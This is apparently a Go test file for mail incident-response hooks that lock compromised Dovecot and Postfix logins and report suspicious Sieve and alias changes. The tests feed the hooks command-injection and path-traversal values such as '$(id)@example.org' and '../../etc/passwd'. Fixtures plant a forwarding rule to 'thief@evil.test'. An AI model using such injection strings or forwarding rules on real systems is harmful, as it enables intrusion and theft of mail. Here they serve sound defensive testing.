package hook_test

import (
	"errors"
	"fmt"
	"os"
	"os/exec"
	"os/user"
	"path/filepath"
	"strings"
	"testing"
	"time"

	"hisseki/hook"
	"hisseki/internal/mta"
)

// shipped gives an event to a hook of deploy/hooks.
func shipped(t *testing.T, event, login, name string, args ...string) (string, error) {
	t.Helper()
	path, err := filepath.Abs("../deploy/hooks/" + name)
	if err != nil {
		t.Fatal(err)
	}
	u, err := user.Current()
	if err != nil {
		t.Fatal(err)
	}
	c := hook.Command{User: u.Username, Args: append([]string{path}, args...)}
	return c.Tell(t.Context(), &hook.Event{Schema: 1, Kind: "incident", ID: "0123", Event: event,
		Run: 1, Brief: hook.Brief{Incident: "I3", Sender: login}})
}

func mustTell(t *testing.T, event, login, name string, args ...string) string {
	t.Helper()
	said, err := shipped(t, event, login, name, args...)
	if err != nil {
		t.Fatalf("%s of %s to %s: %v\n%s", event, login, name, err, said)
	}
	return said
}

// within waits until try succeeds: daemons notice a changed file with their next look.
func within(limit time.Duration, try func() error) error {
	deadline := time.Now().Add(limit)
	for {
		err := try()
		if err == nil || time.Now().After(deadline) {
			return err
		}
		time.Sleep(100 * time.Millisecond)
	}
}

// needs fails in CI, and skips elsewhere, where a tool is missing.
func needs(t *testing.T, tools ...string) {
	t.Helper()
	for _, tool := range tools {
		if _, err := exec.LookPath(tool); err == nil {
			continue
		}
		if os.Getenv("CI") == "true" {
			t.Fatalf("needs %s: apt-get install %s and run again", tool, tool)
		}
		t.Skipf("needs %s", tool)
	}
}

func TestShippedHooksRefuseOddLogins(t *testing.T) {
	t.Parallel()
	needs(t, "python3")
	dir := t.TempDir()
	for _, login := range []string{"", "-rf@example.org", "a b@example.org", "$(id)@example.org",
		"a\n@example.org", "a@example.org\n", "a;b@example.org", "../../etc/passwd",
		"名@example.org", "a\x00b",
		"a|b@example.org", "a&b@example.org", "a@..", "a@.", "a@"} {
		said, err := shipped(t, "opened", login, "lock-dovecot", dir+"/denied", "/bin/true")
		if err == nil {
			t.Errorf("the login %q was taken: %s", login, said)
		}
	}
	for name, args := range map[string][]string{"reject-login": {"hash:" + dir + "/map", "/bin/true"},
		"list-sieve-changes": {"7", dir}} {
		if said, err := shipped(t, "opened", "$(id)@example.org", name, args...); err == nil {
			t.Errorf("%s took an odd login: %s", name, said)
		}
	}
	if left, _ := os.ReadDir(dir); len(left) > 0 {
		t.Errorf("files were written: %v", left)
	}
}

func TestRejectLoginClosesPostfix(t *testing.T) {
	t.Parallel()
	mta.Require(t)
	needs(t, "python3")
	in := mta.Start(t, mta.Options{})
	kind, err := exec.Command("postconf", "-h", "default_database_type").Output()
	if err != nil {
		t.Fatal(err)
	}
	file := in.Config + "/locked"
	table := strings.TrimSpace(string(kind)) + ":" + file
	postmap := []string{table, "postmap", "-c", in.Config}
	if err := os.WriteFile(file, []byte("other@example.org REJECT\n"), 0o644); err != nil {
		t.Fatal(err)
	}
	mustTell(t, "ended", "bob@example.org", "reject-login", postmap...) // none of its business
	mustTell(t, "dismissed", "bob@example.org", "reject-login", postmap...)
	if err := in.Set("smtpd_sender_restrictions", "check_sasl_access "+table); err != nil {
		t.Fatal(err)
	}
	if err := in.Reload(); err != nil {
		t.Fatal(err)
	}
	send := func(name string) error {
		_, err := in.Submit(mta.Submission{User: name, From: name, To: []string{"x@partner.test"},
			Data: []byte("Subject: hello\r\n\r\nhello\r\n")})
		return err
	}
	if err := send("bob@example.org"); err != nil {
		t.Fatalf("before: %v", err)
	}
	for range 2 { // a run may be repeated
		said := mustTell(t, "confirmed", "bob@example.org", "reject-login", postmap...)
		if !strings.Contains(said, "mail of bob@example.org is rejected") {
			t.Errorf("it said %q", said)
		}
	}
	err = within(20*time.Second, func() error {
		err := send("bob@example.org")
		if err == nil || !strings.Contains(err.Error(), "postmaster about I3") {
			return fmt.Errorf("sending said: %v", err)
		}
		return nil
	})
	if err != nil {
		t.Errorf("not locked: %v", err)
	}
	if err := send("alice@example.org"); err != nil {
		t.Errorf("another account: %v", err)
	}
	mustTell(t, "dismissed", "bob@example.org", "reject-login", postmap...)
	err = within(20*time.Second, func() error { return send("bob@example.org") })
	if err != nil {
		t.Errorf("let in again: %v", err)
	}
	if text, err := os.ReadFile(file); err != nil || string(text) != "other@example.org REJECT\n" {
		t.Errorf("the file is %q, %v", text, err)
	}
}

// TestEveryLoginIsLocked: bob is an alias of robert, and logs in as himself. Locking robert would
// leave the thief in.
func TestEveryLoginIsLocked(t *testing.T) {
	t.Parallel()
	needs(t, "python3")
	file := filepath.Join(t.TempDir(), "locked")
	path, err := filepath.Abs("../deploy/hooks/reject-login")
	if err != nil {
		t.Fatal(err)
	}
	u, err := user.Current()
	if err != nil {
		t.Fatal(err)
	}
	tell := func(event string, logins ...string) (string, error) {
		c := hook.Command{User: u.Username, Args: []string{path, "hash:" + file, "/bin/true"}}
		said, err := c.Tell(t.Context(), &hook.Event{Schema: 1, Kind: "incident", Event: event, Run: 1,
			Brief: hook.Brief{Incident: "I3", Sender: "robert@example.org"}, Logins: logins})
		text, _ := os.ReadFile(file)
		return said + string(text), err
	}
	said, err := tell("opened", "bob@example.org", "bob.phone@example.org")
	if err != nil || !strings.Contains(said, "\nbob@example.org REJECT") ||
		!strings.Contains(said, "\nbob.phone@example.org REJECT") || strings.Contains(said, "robert@example.org REJECT") {
		t.Errorf("%v: %s", err, said)
	}
	// One name that cannot be locked is an error, and the others are locked all the same.
	said, err = tell("opened", "$(id)@example.org", "bob2@example.org", "a\nb@example.org")
	if err == nil || !strings.Contains(said, "\nbob2@example.org REJECT") || strings.Contains(said, "b@example.org REJECT\nb@") {
		t.Errorf("%v: %s", err, said)
	}
	if said, err = tell("dismissed", "bob@example.org", "bob.phone@example.org", "bob2@example.org"); err != nil || strings.Contains(said, "REJECT") {
		t.Errorf("%v: %s", err, said)
	}
}

func TestListSieveChanges(t *testing.T) {
	t.Parallel()
	needs(t, "python3")
	dir := t.TempDir()
	sieve := filepath.Join(dir, "example.org", "bob", "sieve")
	if err := os.MkdirAll(sieve, 0o755); err != nil {
		t.Fatal(err)
	}
	for name, text := range map[string]string{
		sieve + "/main.sieve": "redirect \"thief@evil.test\";\nkeep;\n",
		sieve + "/main.svbin": "redirect", dir + "/aliases": "root: thief@evil.test\n"} {
		if err := os.WriteFile(name, []byte(text), 0o644); err != nil {
			t.Fatal(err)
		}
	}
	args := []string{"30", dir + "/%d/%n/sieve", dir + "/aliases", dir + "/%u/none"}
	said := mustTell(t, "opened", "bob@example.org", "list-sieve-changes", args...)
	for _, want := range []string{"main.sieve:1:redirect \"thief@evil.test\"", "root: thief@evil.test",
		"/bob@example.org/none: not there"} {
		if !strings.Contains(said, want) {
			t.Errorf("no %q in\n%s", want, said)
		}
	}
	if strings.Contains(said, "svbin") || strings.Contains(said, "keep") {
		t.Errorf("too much in\n%s", said)
	}
	// What may not be read is not "nothing changed".
	for _, path := range []string{dir + "/aliases/below", dir + "/%d/closed/sieve"} {
		said, err := shipped(t, "opened", "bob", "list-sieve-changes", "30", path, dir+"/aliases")
		if err == nil || !strings.Contains(said, "NOT READ") || !strings.Contains(said, "thief@evil.test") {
			t.Errorf("%s: it said %q, %v", path, said, err)
		}
	}
	if said := mustTell(t, "confirmed", "bob@example.org", "list-sieve-changes", args...); said != "" {
		t.Errorf("at another event it says %q", said)
	}
}

// The script in use is a link (~/.dovecot.sieve), and a thief may change the link alone.
func TestListSieveLinks(t *testing.T) {
	t.Parallel()
	needs(t, "python3", "setpriv")
	dir, err := os.MkdirTemp("", "sieve") // others than root may look into it
	if err != nil {
		t.Fatal(err)
	}
	t.Cleanup(func() { os.RemoveAll(dir) })
	old := time.Now().AddDate(0, -6, 0)
	err = errors.Join(os.Chmod(dir, 0o755), os.Mkdir(dir+"/sieve", 0o755),
		os.WriteFile(dir+"/sieve/old.sieve", []byte("discard;\n"), 0o644), os.Chtimes(dir+"/sieve/old.sieve", old, old),
		os.Symlink("old.sieve", dir+"/sieve/active"), os.WriteFile(dir+"/new.sieve", []byte("redirect \"thief@evil.test\";\n"), 0o600),
		os.Symlink("new.sieve", dir+"/.dovecot.sieve"))
	if err != nil {
		t.Fatal(err)
	}
	said := mustTell(t, "opened", "bob", "list-sieve-changes", "30", dir+"/sieve", dir+"/.dovecot.sieve")
	for _, want := range []string{"active -> old.sieve", `.dovecot.sieve:1:redirect "thief@evil.test"`} {
		if !strings.Contains(said, want) || strings.Contains(said, "nothing changed") {
			t.Errorf("no %q in\n%s", want, said)
		}
	}
	script, err := filepath.Abs("../deploy/hooks")
	if err != nil {
		t.Fatal(err)
	}
	if err := os.CopyFS(dir+"/hooks", os.DirFS(script)); err != nil {
		t.Fatal(err)
	}
	cmd := exec.Command("setpriv", "--reuid=65534", "--clear-groups", "sh", dir+"/hooks/list-sieve-changes", "30", dir+"/new.sieve")
	cmd.Stdin = strings.NewReader(`{"event":"opened","incident":"I3","sender":"bob"}`)
	if out, err := cmd.CombinedOutput(); err == nil || !strings.Contains(string(out), "NOT READ: no permission") {
		t.Errorf("a file that it may not read: %v: %s", err, out)
	}
	for i := range 60 {
		if err := os.WriteFile(fmt.Sprintf("%s/sieve/%d.sieve", dir, i), []byte("keep;\n"), 0o644); err != nil {
			t.Fatal(err)
		}
	}
	if said := mustTell(t, "opened", "bob", "list-sieve-changes", "30", dir+"/sieve"); !strings.Contains(said, "and 11 more") {
		t.Errorf("more than it lists:\n%s", said)
	}
}

// The hooks read JSON with what the machine has: jq, or python3.
func TestShippedHooksWithoutJq(t *testing.T) {
	t.Parallel()
	needs(t, "python3")
	path := t.TempDir()
	for _, tool := range []string{"sh", "python3", "cat", "awk", "mktemp", "chmod", "mv",
		"rm", "grep", "date", "sleep", "wc"} {
		full, err := exec.LookPath(tool)
		if tool == "python3" { // itself, not a wrapper that chooses one
			var out []byte
			out, err = exec.Command(tool, "-c", "import sys; print(sys.executable)").Output()
			full = strings.TrimSpace(string(out))
		}
		if err != nil {
			t.Fatal(err)
		}
		if err := os.Symlink(full, filepath.Join(path, tool)); err != nil {
			t.Fatal(err)
		}
	}
	denied := filepath.Join(t.TempDir(), "denied")
	doveadm := filepath.Join(t.TempDir(), "doveadm") // of a Dovecot that refuses everybody
	if err := os.WriteFile(doveadm, []byte("#!/bin/sh\necho code=user_disabled\n"), 0o755); err != nil {
		t.Fatal(err)
	}
	cmd := exec.Command("../deploy/hooks/lock-dovecot", denied, doveadm)
	cmd.Env = append(os.Environ(), "PATH="+path)
	cmd.Stdin = strings.NewReader(`{"event":"opened","incident":"I3","sender":"bob@example.org"}`)
	out, err := cmd.CombinedOutput()
	if err != nil {
		t.Fatalf("%v\n%s", err, out)
	}
	if text, err := os.ReadFile(denied); err != nil || string(text) != "bob@example.org\n" {
		t.Errorf("the file is %q, %v", text, err)
	}
}

func TestShippedHooksPassShellcheck(t *testing.T) {
	t.Parallel()
	needs(t, "shellcheck")
	cmd := exec.Command("shellcheck", "-x", "lock-dovecot", "reject-login", "list-sieve-changes", "lock-entra", "lock-google",
		"event.sh")
	cmd.Dir = "../deploy/hooks"
	if out, err := cmd.CombinedOutput(); err != nil {
		t.Errorf("%v\n%s", err, out)
	}
}
